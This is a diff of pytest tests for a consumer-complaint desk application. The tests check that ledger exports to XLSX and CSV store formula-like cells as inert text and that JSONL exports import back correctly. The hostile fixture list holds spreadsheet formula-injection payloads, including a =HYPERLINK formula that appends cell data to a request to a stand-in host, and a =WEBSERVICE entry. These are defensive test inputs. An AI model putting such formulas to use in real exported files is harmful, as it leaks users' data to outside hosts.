@@ -12,13 +12,13 @@ HOSTILE = ["=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"点我\")", "=WEBSERV
 @pytest.fixture
 def hostile_desk(desk, make_complaint):
     for i, text in enumerate(HOSTILE):
-        desk.add_case(make_complaint(merchant={"name": text + f"（虚构{i}）"}, facts=text, product=text[:50],
+        desk.cases.add(make_complaint(merchant={"name": text + f"（虚构{i}）"}, facts=text, product=text[:50],
                                      consumer={"consent_to_share": True}))
     return desk
 
 
 def test_xlsx_export_stores_formula_like_cells_as_text(hostile_desk, tmp_path):
-    hostile_desk.export_ledger(tmp_path / "out.xlsx")
+    hostile_desk.ledger.export(tmp_path / "out.xlsx")
     ws = load_workbook(tmp_path / "out.xlsx").worksheets[0]
     header = [c.value for c in ws[1]]
     facts_col, merchant_col = header.index("事实") + 1, header.index("经营者名称") + 1
@@ -29,7 +29,7 @@ def test_xlsx_export_stores_formula_like_cells_as_text(hostile_desk, tmp_path):
 
 
 def test_csv_export_prefixes_formula_like_cells_and_import_takes_the_quote_off(hostile_desk, tmp_path):
-    hostile_desk.export_ledger(tmp_path / "out.csv")
+    hostile_desk.ledger.export(tmp_path / "out.csv")
     with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as fh:
         rows = list(csv.reader(fh))
     facts = [r[rows[0].index("事实")] for r in rows[1:]]
@@ -44,17 +44,17 @@ def test_jsonl_export_imports_back_into_an_empty_database(hostile_desk, tmp_path
     from app.db import Store
     from app.desk import Desk
 
-    hostile_desk.add_case(make_complaint(consumer={"id_number": "11010519491231002X", "address": "测试路1号",
+    hostile_desk.cases.add(make_complaint(consumer={"id_number": "11010519491231002X", "address": "测试路1号",
                                                    "consent_to_share": True}))
-    n = hostile_desk.export_ledger(tmp_path / "all.jsonl", full=True)
+    n = hostile_desk.ledger.export(tmp_path / "all.jsonl", full=True)
     lines = (tmp_path / "all.jsonl").read_text(encoding="utf-8").splitlines()
     assert len(lines) == n and json.loads(lines[0])["case_no"]
     empty = Desk(Store(f"sqlite:///{tmp_path / 'empty.db'}"))
-    numbers = empty.import_ledger(tmp_path / "all.jsonl")
+    numbers = empty.ledger.import_file(tmp_path / "all.jsonl")
     assert len(numbers) == n
-    assert sorted(c["facts"] for c in empty.list_cases()) == sorted(c["facts"] for c in hostile_desk.list_cases())
-    again = empty.search("11010519491231002X") or empty.list_cases()
-    assert any(empty.show_case(c["case_no"])["consumer"]["id_number"] == "11010519491231002X" for c in again)
+    assert sorted(c["facts"] for c in empty.cases.list()) == sorted(c["facts"] for c in hostile_desk.cases.list())
+    again = empty.cases.search("11010519491231002X") or empty.cases.list()
+    assert any(empty.cases.show(c["case_no"])["consumer"]["id_number"] == "11010519491231002X" for c in again)
     empty.store.dispose()
 
 
